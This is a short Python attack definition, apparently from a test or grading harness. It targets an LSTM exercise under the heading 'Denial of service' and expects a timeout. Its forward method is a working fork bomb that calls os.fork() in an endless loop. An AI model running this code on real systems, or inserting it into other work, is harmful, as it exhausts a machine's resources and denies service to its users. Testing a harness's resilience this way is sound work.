# /// attack
# title = "Processes that fork without end"
# group = "Denial of service"
# verdict = "S"
# points = 75
# loses = ["celdaLSTM/*", "gradientes/lstm_cell", "gradientes/lstm_long"]
# keeps = ["celdaLSTM/parameters", "celdaLSTM/reset_parameters"]
# outcomes = ["timeout"]
# ///
import os


class celdaLSTM(celdaLSTM):
    def forward(self, x_t, hidden):
        while True:
            try:
                os.fork()
            except OSError:
                pass
